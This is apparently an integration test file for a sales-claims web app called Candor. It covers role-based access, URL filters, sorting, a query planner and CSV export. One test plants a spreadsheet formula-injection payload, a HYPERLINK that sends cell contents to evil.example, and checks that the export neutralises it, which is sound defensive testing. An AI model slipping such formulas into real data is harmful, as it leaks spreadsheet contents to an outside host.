import { describe, expect, it } from "vitest";
import { parseClaimsQuery } from "../../app/domain/claims-filter.ts";
import { parseCsv } from "../../app/domain/csv-safety.ts";
import type { Prisma } from "../../app/generated/prisma/client.ts";
import { prisma } from "../../app/lib/db.server.ts";
import { ClaimQuery, type ClaimSelection } from "../../app/models/claims-table-query.server.ts";
import { iterateClaimsForExport, listClaimsPage } from "../../app/models/claims-table.server.ts";
import { audienceFor, salespersonAudienceWhere } from "../../app/models/audience.server.ts";
import { refreshRollups } from "../../app/models/rollups.server.ts";
import { getManagedTeamIds } from "../../app/models/teams.server.ts";
import { loader as csvLoader } from "../../app/routes/claims[.]csv.ts";
import { loader as claimsLoader } from "../../app/routes/_app.claims._index.tsx";
import { cookieFor, ORIGIN, settle } from "./support/sign-in.ts";

const userByEmail = (email: string) => prisma.user.findUniqueOrThrow({ where: { email } });

async function readAudience(user: { id: string; role: "SALES" | "ENGINEER" | "MANAGER" | "ADMIN" }) {
  const audience = await audienceFor(user, "read:claim");
  if (!audience) throw new Error(`${user.role} reads no claims`);
  return audience;
}

async function loadTable(email: string, query = "") {
  const cookie = await cookieFor(email);
  return claimsLoader({
    request: new Request(`${ORIGIN}/claims${query}`, { headers: { cookie } }),
    params: {},
    context: {},
  });
}

async function exportCsv(email: string, query = "") {
  const cookie = await cookieFor(email);
  const response = await csvLoader({
    request: new Request(`${ORIGIN}/claims.csv${query}`, { headers: { cookie } }),
    params: {},
    context: {},
  });
  return { response, rows: parseCsv(await response.text()) };
}

/** The ids of claims matching `where`, as Prisma (not our SQL) finds them. */
async function idsWhere(where: Prisma.ClaimWhereInput): Promise<string[]> {
  return (await prisma.claim.findMany({ where, select: { id: true } })).map((claim) => claim.id).sort();
}

describe("the claims table", () => {
  it("shows a manager exactly the claims of the teams they manage", async () => {
    const manager = await userByEmail("manager@candor.test");
    const teamIds = await getManagedTeamIds(manager.id);
    const result = await loadTable("manager@candor.test", "?pageSize=100");
    const expected = await prisma.claim.count({ where: { salesperson: { teamId: { in: teamIds } } } });
    expect(result.total).toBe(expected);
    expect(result.total).toBeLessThan(await prisma.claim.count());
    const teamNames = (await prisma.team.findMany({ where: { id: { in: teamIds } } })).map((team) => team.name);
    expect(result.rows).toHaveLength(100);
    for (const row of result.rows) expect(teamNames).toContain(row.team);
    // Only the managed teams are offered as filters, and only their salespeople.
    expect(result.options.teams.map((team) => team.name).sort()).toEqual([...teamNames].sort());
    const sales = await prisma.user.findMany({
      where: { id: { in: result.options.salespeople.map((person) => person.id) } },
    });
    for (const person of sales) expect(teamIds).toContain(person.teamId);
  });

  it("ignores, with a note, a team or salesperson outside the manager's teams", async () => {
    const manager = await userByEmail("manager@candor.test");
    const teamIds = await getManagedTeamIds(manager.id);
    const otherTeam = await prisma.team.findFirstOrThrow({ where: { id: { notIn: teamIds } } });
    const outsider = await prisma.user.findFirstOrThrow({ where: { teamId: otherTeam.id, role: "SALES" } });
    const unfiltered = await loadTable("manager@candor.test");
    for (const query of [`?team=${otherTeam.id}`, `?salesperson=${outsider.id}`]) {
      const result = await loadTable("manager@candor.test", query);
      expect(result.total).toBe(unfiltered.total);
      expect(result.notes).toHaveLength(1);
      expect(result.notes[0]).toMatch(/^Ignored the (team|salesperson) filter/);
    }
  });

  it("shows a salesperson only their own claims, whatever the URL asks for", async () => {
    const sales = await userByEmail("sales@candor.test");
    const other = await userByEmail("overpromiser@candor.test");
    const own = await prisma.claim.count({ where: { salespersonId: sales.id } });
    const result = await loadTable("sales@candor.test", `?salesperson=${other.id}&pageSize=100`);
    expect(result.total).toBe(own);
    expect(new Set(result.rows.map((row) => row.salesperson.id))).toEqual(new Set([sales.id]));
    expect(result.notes).toEqual(["Ignored the salesperson filter: it is not someone whose claims you can read."]);
    expect(result.options.salespeople).toEqual([]);
    expect(result.options.teams).toEqual([]);
  });

  it("filters on every field exactly as a database query with the same conditions would", async () => {
    const engineer = await userByEmail("engineer@candor.test");
    const audience = await readAudience(engineer);
    const product = await prisma.product.findFirstOrThrow({
      where: { slug: { not: "" } },
      orderBy: { name: "asc" },
      include: { capabilities: true },
    });
    const capability = product.capabilities[0];
    if (!capability) throw new Error("the demo product has no capabilities");
    const overpromiser = await userByEmail("overpromiser@candor.test");
    const cases: Array<[string, Prisma.ClaimWhereInput]> = [
      ["status=INACCURATE", { status: "INACCURATE" }],
      ["matrixCheck=OVERSTATES&channel=CALL", { matrixCheck: "OVERSTATES", channel: "CALL" }],
      [`product=${product.slug}&capability=${capability.key}`, { productId: product.id, capabilityId: capability.id }],
      [`salesperson=${overpromiser.id}&status=INACCURATE`, { salespersonId: overpromiser.id, status: "INACCURATE" }],
      [
        `team=${overpromiser.teamId}&matrixCheck=CONSISTENT`,
        { salesperson: { teamId: overpromiser.teamId }, matrixCheck: "CONSISTENT" },
      ],
      // Whole UTC days, the "to" day included.
      [
        "from=2026-03-01&to=2026-03-31",
        { madeAt: { gte: new Date("2026-03-01T00:00:00Z"), lt: new Date("2026-04-01T00:00:00Z") } },
      ],
    ];
    for (const [query, where] of cases) {
      const { filter } = parseClaimsQuery(new URLSearchParams(query));
      const ids: string[] = [];
      for await (const batch of iterateClaimsForExport(audience, filter, { key: "madeAt", dir: "desc" }, 50))
        ids.push(...batch.map((row) => row[0] ?? ""));
      const expected = await idsWhere(where);
      expect(expected.length, query).toBeGreaterThan(0);
      expect([...ids].sort(), query).toEqual(expected);
      const page = await listClaimsPage(audience, filter, { key: "madeAt", dir: "desc" }, 1, 25);
      expect(page.total, query).toBe(expected.length);
    }
  });

  it("sorts across pages: newest first by default, and by name, label or rank when asked", async () => {
    const manager = await userByEmail("manager@candor.test");
    const audience = await readAudience(manager);
    const allPages = async (
      key: "madeAt" | "salesperson" | "product" | "status" | "matrixCheck" | "severity",
      dir: "asc" | "desc",
    ) => {
      const first = await listClaimsPage(audience, {}, { key, dir }, 1, 100);
      const rows = [...first.rows];
      for (let page = 2; page <= first.pageCount; page++)
        rows.push(...(await listClaimsPage(audience, {}, { key, dir }, page, 100)).rows);
      expect(rows).toHaveLength(first.total);
      expect(new Set(rows.map((row) => row.id)).size).toBe(first.total);
      return rows;
    };
    /** No value sorts before the one above it: the index of the first that does is -1. */
    const expectInOrder = (values: string[], compare: (a: string, b: string) => number) =>
      expect(values.findIndex((value, index) => index > 0 && compare(values[index - 1] ?? "", value) > 0)).toBe(-1);
    const madeAt = (row: { madeAt: Date }) => row.madeAt.toISOString();
    const newestFirst = (a: string, b: string) => b.localeCompare(a);
    const oldestFirst = (a: string, b: string) => a.localeCompare(b);
    const byName = new Intl.Collator("en", { sensitivity: "base", numeric: true }).compare;

    const newest = await allPages("madeAt", "desc");
    expectInOrder(newest.map(madeAt), newestFirst);
    const oldest = await allPages("madeAt", "asc");
    expectInOrder(oldest.map(madeAt), oldestFirst);

    const people = await allPages("salesperson", "asc");
    expectInOrder(
      people.map((row) => row.salesperson.name),
      byName,
    );
    // Within one salesperson, newest first.
    const firstPerson = people.filter((row) => row.salesperson.id === people[0]?.salesperson.id);
    expectInOrder(firstPerson.map(madeAt), newestFirst);

    const productsDesc = await allPages("product", "desc");
    expectInOrder(
      productsDesc.map((row) => row.product),
      (a, b) => byName(b, a),
    );

    const severities = await allPages("severity", "asc");
    const rank = (severity: string | null) => (severity === null ? 3 : ["LOW", "MEDIUM", "HIGH"].indexOf(severity));
    expectInOrder(
      severities.map((row) => String(rank(row.severity))),
      (a, b) => Number(a) - Number(b),
    );
  });

  it("reads a bad URL as far as it can, with a plain note, never failing", async () => {
    const result = await loadTable(
      "engineer@candor.test",
      "?status=SOMETIMES&from=2026-13-01&product=no-such-product&capability=sso&sort=statement&page=0",
    );
    expect(result.notes).toEqual([
      "Ignored the verdict status filter: “SOMETIMES” is not a value Candor knows.",
      "Ignored the “made from” date filter: “2026-13-01” is not a date (YYYY-MM-DD).",
      "Cannot sort by “statement”; sorted by the date made instead.",
      "Showing the first page: “0” is not a page number.",
      "Ignored the product filter: no product is called “no-such-product”.",
      "Ignored the capability filter: choose the product it belongs to as well.",
    ]);
    expect(result.total).toBe(await prisma.claim.count());
    expect(result.page).toBe(1);
  });

  it("shows the last page when asked for one past the end", async () => {
    const result = await loadTable("sales@candor.test", "?page=999");
    expect(result.page).toBe(result.pageCount);
    expect(result.rows.length).toBeGreaterThan(0);
  });

  it("turns the Columns form (sent without JavaScript) into hide=… and keeps the rest", async () => {
    const outcome = await settle(() =>
      loadTable("manager@candor.test", "?status=INACCURATE&columns=team,channel,severity&show=channel"),
    );
    expect(outcome).toBeInstanceOf(Response);
    const response = outcome as Response;
    expect(response).toHaveRedirect("/claims?status=INACCURATE&hide=team%2Cseverity");
  });
});

describe("the claims CSV export", () => {
  it("has a header and exactly the filtered rows of the manager's teams, across all pages", async () => {
    const manager = await userByEmail("manager@candor.test");
    const audience = await readAudience(manager);
    const { response, rows } = await exportCsv(
      "manager@candor.test",
      "?matrixCheck=OVERSTATES&sort=salesperson&page=2&pageSize=25",
    );
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="candor-claims-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const [header, ...records] = rows;
    expect(header?.[0]).toBe("Claim ID");
    const expected = await idsWhere({ AND: [salespersonAudienceWhere(audience), { matrixCheck: "OVERSTATES" }] });
    expect(expected.length).toBeGreaterThan(25);
    expect(records.map((record) => record[0]).sort()).toEqual(expected);
    // In the table's order: by salesperson name.
    const names = records.map((record) => record[2] ?? "");
    expect(names).toEqual([...names].sort(new Intl.Collator("en", { sensitivity: "base", numeric: true }).compare));
  });

  it("neutralises a statement that a spreadsheet would run as a formula", async () => {
    const sales = await userByEmail("sales@candor.test");
    const product = await prisma.product.findFirstOrThrow();
    const statement = '=HYPERLINK("http://evil.example/?"&A1,"Click for the roadmap")';
    const claim = await prisma.claim.create({
      data: {
        salespersonId: sales.id,
        loggedById: sales.id,
        accountName: "+Formula Accounts Ltd",
        productId: product.id,
        assertedLevel: "SUPPORTED",
        statement,
        channel: "EMAIL",
        madeAt: new Date("2026-01-15T10:00:00Z"),
        source: "SELF",
        matrixCheck: "NO_MATRIX_ROW",
      },
    });
    // Written here rather than through the form, so its rollup bucket is refreshed here as the form would.
    await prisma.$transaction((tx) => refreshRollups(tx, { claimIds: [claim.id] }));
    const { rows } = await exportCsv("manager@candor.test", `?salesperson=${sales.id}&from=2026-01-15&to=2026-01-15`);
    const record = rows.find((row) => row[0] === claim.id);
    expect(record?.[9]).toBe(`'${statement}`);
    expect(record?.[5]).toBe("'+Formula Accounts Ltd");
    // A salesperson exports their own claims only.
    const own = await exportCsv("sales@candor.test", "?pageSize=25");
    expect(own.rows.length - 1).toBe(await prisma.claim.count({ where: { salespersonId: sales.id } }));
    expect(new Set(own.rows.slice(1).map((row) => row[3]))).toEqual(new Set(["sales@candor.test"]));
  });

  it("sends an anonymous visitor to sign in", async () => {
    const outcome = await settle(() =>
      csvLoader({ request: new Request(`${ORIGIN}/claims.csv`), params: {}, context: {} }),
    );
    expect(outcome).toHaveRedirect(/^\/login\?redirectTo=%2Fclaims\.csv/);
  });
});

describe("the claims query planner", () => {
  // On the demo data every filter is small, so the planner would always drive from the smallest
  // one; `few: 0` makes it choose by cost, reaching the rowid-list plans the scale data uses.
  it("answers the same whichever plan it chooses, and as Prisma does", async () => {
    const manager = await userByEmail("manager@candor.test");
    const members = (
      await prisma.user.findMany({
        where: { teamId: { in: await getManagedTeamIds(manager.id) } },
        select: { id: true },
      })
    ).map((user) => user.id);
    const product = await prisma.product.findFirstOrThrow({ orderBy: { name: "asc" } });
    const from = new Date("2025-12-01T00:00:00Z");
    const before = new Date("2026-10-01T00:00:00Z");
    const cases: Array<[ClaimSelection, Prisma.ClaimWhereInput]> = [
      // Every claim (counted from the rollups), and every claim of a range of days.
      [{ terms: [] }, {}],
      [{ terms: [], from, before }, { madeAt: { gte: from, lt: before } }],
      [
        {
          terms: [
            { column: "salespersonId", values: members },
            { column: "status", values: ["ACCURATE"] },
          ],
        },
        { salespersonId: { in: members }, status: "ACCURATE" },
      ],
      [
        {
          terms: [
            { column: "status", values: ["ACCURATE", "INACCURATE"] },
            { column: "salespersonId", values: members },
          ],
          from,
          before,
        },
        {
          salespersonId: { in: members },
          status: { in: ["ACCURATE", "INACCURATE"] },
          madeAt: { gte: from, lt: before },
        },
      ],
      // Pairs with an index on both: counted from it, and paged from it with one value each.
      [
        {
          terms: [
            { column: "productId", values: [product.id] },
            { column: "matrixCheck", values: ["CONSISTENT"] },
          ],
        },
        { productId: product.id, matrixCheck: "CONSISTENT" },
      ],
      [
        {
          terms: [
            { column: "salespersonId", values: members.slice(0, 1) },
            { column: "status", values: ["ACCURATE"] },
          ],
        },
        { salespersonId: members[0] ?? "", status: "ACCURATE" },
      ],
      [
        {
          terms: [
            { column: "productId", values: [product.id] },
            { column: "matrixCheck", values: ["CONSISTENT"] },
            { column: "channel", values: ["CALL"] },
          ],
          from,
          before,
        },
        { productId: product.id, matrixCheck: "CONSISTENT", channel: "CALL", madeAt: { gte: from, lt: before } },
      ],
      [
        {
          terms: [
            { column: "salespersonId", values: members },
            { column: "productId", values: [product.id] },
            { column: "severity", values: [null] },
          ],
        },
        { salespersonId: { in: members }, productId: product.id, severity: null },
      ],
    ];
    for (const [selection, where] of cases) {
      const expected = await prisma.claim.findMany({
        where,
        select: { madeAt: true, status: true },
        orderBy: { madeAt: "desc" },
      });
      expect(expected.length).toBeGreaterThan(3);
      const byStatus = new Map<string, number>();
      for (const claim of expected) byStatus.set(claim.status, (byStatus.get(claim.status) ?? 0) + 1);
      for (const few of [undefined, 0]) {
        const query = new ClaimQuery(selection, { few });
        expect(await query.count()).toBe(expected.length);
        const buckets = await query.countBy("status");
        expect(new Map(buckets.map((bucket) => [bucket.value ?? "", bucket.count]))).toEqual(byStatus);
        const keys = await query.keys({ dir: "desc", skip: 2, take: 5, expected: expected.length });
        expect(keys.map((key) => key.madeAt.toISOString())).toEqual(
          expected.slice(2, 7).map((claim) => claim.madeAt.toISOString()),
        );
        // Keyset reading from the second row on gives the same rows as skipping one.
        const [, second] = await query.keys({ dir: "asc", skip: 0, take: 2, expected: expected.length });
        if (!second) throw new Error("expected two rows");
        const after = await query.keys({ dir: "asc", skip: 0, take: 3, after: second, expected: expected.length });
        expect(after).toEqual(await query.keys({ dir: "asc", skip: 2, take: 3, expected: expected.length }));
      }
    }
  });
});
